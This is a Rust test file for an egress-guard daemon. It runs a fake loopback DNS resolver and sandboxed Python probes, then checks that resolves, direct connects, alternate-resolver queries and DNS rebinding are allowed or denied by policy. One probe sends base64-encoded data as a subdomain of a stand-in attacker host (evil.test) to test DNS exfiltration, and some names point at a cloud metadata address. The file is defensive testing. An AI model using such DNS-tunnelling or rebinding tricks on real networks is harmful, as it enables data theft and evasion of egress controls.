//! Egress by name: a little internet on loopback (a test upstream resolver
//! serving allowed.test, cdn.allowed.test as a CNAME, and evil.test), and
//! guarded servers that resolve, connect, and try to get around it. The
//! names answer with loopback addresses, so the policies here set
//! `allow_local_answers`; the escape suite's egress class
//! (`escape/net.rs`) shares this upstream and its rebinding names.

use std::{
    io::{BufRead, BufReader, Read, Write},
    net::{Ipv4Addr, SocketAddr, TcpListener, UdpSocket},
    os::unix::fs::PermissionsExt,
    process::Stdio,
    str::FromStr,
    sync::{
        atomic::{AtomicBool, Ordering},
        Arc, Mutex,
    },
    thread::JoinHandle,
    time::Duration,
};

use hickory_proto::{
    op::{Message, MessageType, ResponseCode},
    rr::{
        rdata::{A, AAAA, CNAME},
        Name, RData, Record, RecordType,
    },
};

use crate::harness::*;

/// TTL of allowed.test's addresses: short, so expiry can be watched.
const SHORT_TTL: u32 = 1;

/// The test's upstream resolver, on UDP and TCP `127.0.0.1:port`. It logs
/// every name it is asked, so a test can show a name never left the daemon.
pub(crate) struct Upstream {
    pub(crate) addr: SocketAddr,
    asked: Arc<Mutex<Vec<String>>>,
    stop: Arc<AtomicBool>,
    threads: Vec<JoinHandle<()>>,
}

fn zone(q: &Message) -> Message {
    let mut resp = Message::new(q.metadata.id, MessageType::Response, q.metadata.op_code);
    resp.metadata.recursion_desired = q.metadata.recursion_desired;
    resp.metadata.recursion_available = true;
    resp.queries = q.queries.clone();
    let Some(query) = q.queries.first() else {
        resp.metadata.response_code = ResponseCode::FormErr;
        return resp;
    };
    let qname = query
        .name()
        .to_ascii()
        .trim_end_matches('.')
        .to_ascii_lowercase();
    let name = |s: &str| Name::from_str(&format!("{s}.")).unwrap();
    let rec = |owner: &str, ttl: u32, data: RData| Record::from_rdata(name(owner), ttl, data);
    let t = query.query_type();
    match qname.as_str() {
        "allowed.test" if t == RecordType::A => resp.answers.push(rec(
            "allowed.test",
            SHORT_TTL,
            RData::A(A(Ipv4Addr::new(127, 0, 0, 2))),
        )),
        "allowed.test" if t == RecordType::AAAA => resp.answers.push(rec(
            "allowed.test",
            SHORT_TTL,
            RData::AAAA(AAAA(std::net::Ipv6Addr::LOCALHOST)),
        )),
        "cdn.allowed.test" => {
            resp.answers.push(rec(
                "cdn.allowed.test",
                60,
                RData::CNAME(CNAME(name("edge.other.test"))),
            ));
            if t == RecordType::A {
                resp.answers.push(rec(
                    "edge.other.test",
                    60,
                    RData::A(A(Ipv4Addr::new(127, 0, 0, 4))),
                ));
            }
        }
        "evil.test" if t == RecordType::A => resp.answers.push(rec(
            "evil.test",
            60,
            RData::A(A(Ipv4Addr::new(127, 0, 0, 3))),
        )),
        // DNS rebinding: a name a policy allows, answering with the
        // server's own host (loopback, link-local, unspecified, and the
        // IPv4-mapped forms of these).
        "rebind.test" if t == RecordType::A => {
            for a in [[127, 0, 0, 5], [169, 254, 1, 1], [0, 0, 0, 0]] {
                resp.answers
                    .push(rec("rebind.test", 60, RData::A(A(Ipv4Addr::from(a)))));
            }
        }
        "rebind.test" if t == RecordType::AAAA => {
            for a in ["::1", "fe80::1", "::ffff:127.0.0.5", "::"] {
                resp.answers.push(rec(
                    "rebind.test",
                    60,
                    RData::AAAA(AAAA(a.parse().unwrap())),
                ));
            }
        }
        // A name pointing at the cloud metadata service.
        "metadata.test" if t == RecordType::A => resp.answers.push(rec(
            "metadata.test",
            60,
            RData::A(A(Ipv4Addr::new(169, 254, 169, 254))),
        )),
        "allowed.test" | "evil.test" | "rebind.test" | "metadata.test" => {}
        _ => resp.metadata.response_code = ResponseCode::NXDomain,
    }
    resp
}

impl Upstream {
    pub(crate) fn start() -> Upstream {
        let udp = UdpSocket::bind("127.0.0.1:0").unwrap();
        let addr = udp.local_addr().unwrap();
        let tcp = TcpListener::bind(addr).unwrap();
        udp.set_read_timeout(Some(Duration::from_millis(100)))
            .unwrap();
        tcp.set_nonblocking(true).unwrap();
        let asked = Arc::new(Mutex::new(Vec::new()));
        let stop = Arc::new(AtomicBool::new(false));
        let log = |asked: &Arc<Mutex<Vec<String>>>, q: &Message| {
            if let Some(query) = q.queries.first() {
                asked
                    .lock()
                    .unwrap()
                    .push(query.name().to_ascii().to_ascii_lowercase());
            }
        };
        let (a1, s1) = (asked.clone(), stop.clone());
        let t1 = std::thread::spawn(move || {
            let mut buf = [0u8; 4096];
            while !s1.load(Ordering::SeqCst) {
                if let Ok((n, from)) = udp.recv_from(&mut buf) {
                    if let Ok(q) = Message::from_vec(&buf[..n]) {
                        log(&a1, &q);
                        let _ = udp.send_to(&zone(&q).to_vec().unwrap(), from);
                    }
                }
            }
        });
        let (a2, s2) = (asked.clone(), stop.clone());
        let t2 = std::thread::spawn(move || {
            while !s2.load(Ordering::SeqCst) {
                let Ok((mut c, _)) = tcp.accept() else {
                    std::thread::sleep(Duration::from_millis(20));
                    continue;
                };
                c.set_nonblocking(false).unwrap();
                let mut len = [0u8; 2];
                if c.read_exact(&mut len).is_err() {
                    continue;
                }
                let mut msg = vec![0u8; u16::from_be_bytes(len) as usize];
                if c.read_exact(&mut msg).is_err() {
                    continue;
                }
                if let Ok(q) = Message::from_vec(&msg) {
                    log(&a2, &q);
                    let out = zone(&q).to_vec().unwrap();
                    let _ = c.write_all(&(out.len() as u16).to_be_bytes());
                    let _ = c.write_all(&out);
                }
            }
        });
        Upstream {
            addr,
            asked,
            stop,
            threads: vec![t1, t2],
        }
    }

    pub(crate) fn asked(&self) -> Vec<String> {
        self.asked.lock().unwrap().clone()
    }
}

impl Drop for Upstream {
    fn drop(&mut self) {
        self.stop.store(true, Ordering::SeqCst);
        for t in self.threads.drain(..) {
            let _ = t.join();
        }
    }
}

/// Listeners on the addresses the names resolve to, all on one port.
pub(crate) fn listeners() -> (u16, Vec<TcpListener>) {
    for _ in 0..50 {
        let first = TcpListener::bind("127.0.0.2:0").unwrap();
        let port = first.local_addr().unwrap().port();
        let rest: Result<Vec<TcpListener>, _> = ["127.0.0.3", "127.0.0.4", "::1"]
            .iter()
            .map(|ip| TcpListener::bind((std::net::IpAddr::from_str(ip).unwrap(), port)))
            .collect();
        if let Ok(mut rest) = rest {
            rest.insert(0, first);
            return (port, rest);
        }
    }
    panic!("no common free port on the test addresses");
}

/// Python helpers every probe script shares: resolve, connect, and raw
/// DNS queries that bypass the C library.
const PRELUDE: &str = r#"
import errno, socket, struct, sys, time
def err(e):
    return errno.errorcode.get(getattr(e, "errno", None) or 0, type(e).__name__)
def resolve(name, fam):
    try:
        return sorted({a[4][0] for a in socket.getaddrinfo(name, None, fam, socket.SOCK_STREAM)})
    except socket.gaierror as e:
        return "gaierror"
def connect(host, port, fam=socket.AF_INET):
    s = socket.socket(fam, socket.SOCK_STREAM)
    s.settimeout(3)
    try:
        s.connect((host, port)); return "ok"
    except OSError as e:
        return err(e)
    finally:
        s.close()
def query(name):
    q = struct.pack(">HHHHHH", 0x1234, 0x0100, 1, 0, 0, 0)
    for label in name.split("."):
        q += bytes([len(label)]) + label.encode()
    return q + b"\0" + struct.pack(">HH", 1, 1)
def rcode(resp):
    return ["NOERROR", "FORMERR", "SERVFAIL", "NXDOMAIN", "NOTIMP", "REFUSED"][resp[3] & 15]
def udp_query(server, name, fam=socket.AF_INET):
    s = socket.socket(fam, socket.SOCK_DGRAM)
    s.settimeout(3)
    try:
        s.sendto(query(name), (server, 53))
        resp, src = s.recvfrom(4096)
        # Stub resolvers drop replies from an address they did not ask.
        if src[0] != server or src[1] != 53:
            return "reply from " + str(src)
        return rcode(resp)
    except OSError as e:
        return err(e)
def tcp_query(server, name):
    s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
    s.settimeout(3)
    try:
        s.connect((server, 53))
        q = query(name)
        s.sendall(struct.pack(">H", len(q)) + q)
        n = struct.unpack(">H", s.recv(2))[0]
        return rcode(s.recv(n))
    except OSError as e:
        return err(e)
p = int(sys.argv[1])
"#;

fn dns_policy(
    dir: &std::path::Path,
    name: &str,
    allow: &str,
    script_dir: &std::path::Path,
) -> std::path::PathBuf {
    let fs = base_fs(&[
        script_dir,
        std::path::Path::new("/etc/hosts"),
        std::path::Path::new("/etc/resolv.conf"),
        std::path::Path::new("/etc/gai.conf"),
        std::path::Path::new("/etc/host.conf"),
    ]);
    policy(
        dir,
        name,
        &format!("name = {name:?}\n{fs}\n[network]\nallow = [{allow}]\nallow_local_answers = true\n[env]\npass = [\"PATH\"]\n"),
    )
}

fn script(dir: &std::path::Path, name: &str, body: &str) -> std::path::PathBuf {
    let path = dir.join(name);
    std::fs::write(&path, format!("{PRELUDE}\n{body}")).unwrap();
    std::fs::set_permissions(&path, std::fs::Permissions::from_mode(0o644)).unwrap();
    path
}

fn expect(text: &str, case: &str, want: &str, out: &std::process::Output) {
    assert!(
        text.lines().any(|l| l == format!("{case} {want}")),
        "{case}: expected {want}\n{}",
        describe(out)
    );
}

#[test]
fn names_resolve_and_connect_only_as_the_policy_allows() {
    let upstream = Upstream::start();
    let d = Daemon::start_with(&["--upstream-dns", &upstream.addr.to_string()]);
    let (port, _listeners) = listeners();
    let dir = tempdir("dns");
    let pol = dns_policy(
        &dir,
        "it-dns",
        &format!("\"allowed.test:{port}\", \"*.allowed.test:{port}\""),
        &dir,
    );
    let probe = script(
        &dir,
        "probe.py",
        r#"
print("resolve_v4", resolve("allowed.test", socket.AF_INET))
print("connect_v4", connect("127.0.0.2", p))
print("resolve_v6", resolve("allowed.test", socket.AF_INET6))
print("connect_v6", connect("::1", p, socket.AF_INET6))
print("resolve_cname", resolve("cdn.allowed.test", socket.AF_INET))
print("connect_cname", connect("127.0.0.4", p))
print("resolve_evil", resolve("evil.test", socket.AF_INET))
print("connect_evil", connect("127.0.0.3", p))
print("connect_evil_mapped", connect("::ffff:127.0.0.3", p, socket.AF_INET6))
print("udp_other_resolver", udp_query("192.0.2.53", "evil.test"))
print("udp6_other_resolver", udp_query("2001:db8::53", "evil.test", socket.AF_INET6))
print("tcp_other_resolver", tcp_query("198.51.100.53", "evil.test"))
print("exfil", udp_query("192.0.2.53", "c2VjcmV0.evil.test"))
print("tcp_allowed", tcp_query("198.51.100.53", "allowed.test"))
time.sleep(7.5)
print("connect_v4_expired", connect("127.0.0.2", p))
"#,
    );
    let out = d.run(
        &pol,
        &[
            "/usr/bin/python3",
            probe.to_str().unwrap(),
            &port.to_string(),
        ],
    );
    let text = stdout_of(&out);
    assert!(out.status.success(), "{}", describe(&out));
    for (case, want) in [
        ("resolve_v4", "['127.0.0.2']"),
        ("connect_v4", "ok"),
        ("resolve_v6", "['::1']"),
        ("connect_v6", "ok"),
        ("resolve_cname", "['127.0.0.4']"),
        ("connect_cname", "ok"),
        ("resolve_evil", "gaierror"),
        ("connect_evil", "EPERM"),
        ("connect_evil_mapped", "EPERM"),
        ("udp_other_resolver", "NXDOMAIN"),
        ("udp6_other_resolver", "NXDOMAIN"),
        ("tcp_other_resolver", "NXDOMAIN"),
        ("exfil", "NXDOMAIN"),
        ("tcp_allowed", "NOERROR"),
        // TTL 1 s plus the 5 s grace have passed.
        ("connect_v4_expired", "EPERM"),
    ] {
        expect(&text, case, want, &out);
    }
    // Denied names never left the daemon.
    let asked = upstream.asked();
    assert!(asked.iter().all(|n| !n.contains("evil")), "{asked:?}");
    assert!(
        asked.iter().any(|n| n.starts_with("allowed.test")),
        "{asked:?}"
    );
    let exfil = d.wait_record("the exfiltration attempt, denied", |r| {
        is_kind(r, "dns") && r["qname"] == "c2vjcmv0.evil.test" && r["denied"] == true
    });
    assert_eq!(exfil["server"], "it-dns");
    d.wait_record("an allowed lookup with its answer", |r| {
        is_kind(r, "dns")
            && r["qname"] == "allowed.test"
            && r["verdict"] == "allow"
            && r["detail"]["answers"][0]["addr"] == "127.0.0.2"
    });
    d.wait_record("DNS over TCP", |r| {
        is_kind(r, "dns") && r["transport"] == "tcp"
    });
    d.wait_record("the direct connect to evil's address, denied", |r| {
        is_kind(r, "connect")
            && r["addr"] == "127.0.0.3"
            && r["port"] == port
            && r["denied"] == true
    });
    // `mcpguard audit --denied` shows the exfiltration attempt by name.
    let audit = std::process::Command::new(bin())
        .args(["audit", "--denied", "--kind", "dns", "--log"])
        .arg(&d.log)
        .output()
        .unwrap();
    assert!(String::from_utf8_lossy(&audit.stdout).contains("dns c2vjcmv0.evil.test A"));
}

#[test]
fn servers_do_not_share_what_their_lookups_opened() {
    let upstream = Upstream::start();
    let d = Daemon::start_with(&["--upstream-dns", &upstream.addr.to_string()]);
    let (port, _listeners) = listeners();
    let dir = tempdir("dns2");
    // Server B may reach evil.test and holds its lookup open.
    let pol_b = dns_policy(&dir, "it-dns-b", &format!("\"evil.test:{port}\""), &dir);
    let hold = script(
        &dir,
        "hold.py",
        r#"
print("resolve", resolve("evil.test", socket.AF_INET), flush=True)
print("connect", connect("127.0.0.3", p), flush=True)
time.sleep(30)
"#,
    );
    let mut b = d
        .run_cmd(
            &pol_b,
            &[
                "/usr/bin/python3",
                hold.to_str().unwrap(),
                &port.to_string(),
            ],
        )
        .stdin(Stdio::null())
        .stdout(Stdio::piped())
        .spawn()
        .unwrap();
    let mut lines = BufReader::new(b.stdout.take().unwrap()).lines();
    assert_eq!(lines.next().unwrap().unwrap(), "resolve ['127.0.0.3']");
    assert_eq!(lines.next().unwrap().unwrap(), "connect ok");
    // Server A, at the same time, names only allowed.test.
    let pol_a = dns_policy(&dir, "it-dns-a", &format!("\"allowed.test:{port}\""), &dir);
    let probe = script(
        &dir,
        "probe.py",
        r#"
print("connect_evil", connect("127.0.0.3", p))
print("resolve_evil", resolve("evil.test", socket.AF_INET))
"#,
    );
    let out = d.run(
        &pol_a,
        &[
            "/usr/bin/python3",
            probe.to_str().unwrap(),
            &port.to_string(),
        ],
    );
    let text = stdout_of(&out);
    expect(&text, "connect_evil", "EPERM", &out);
    expect(&text, "resolve_evil", "gaierror", &out);
    b.kill().unwrap();
    b.wait().unwrap();
}
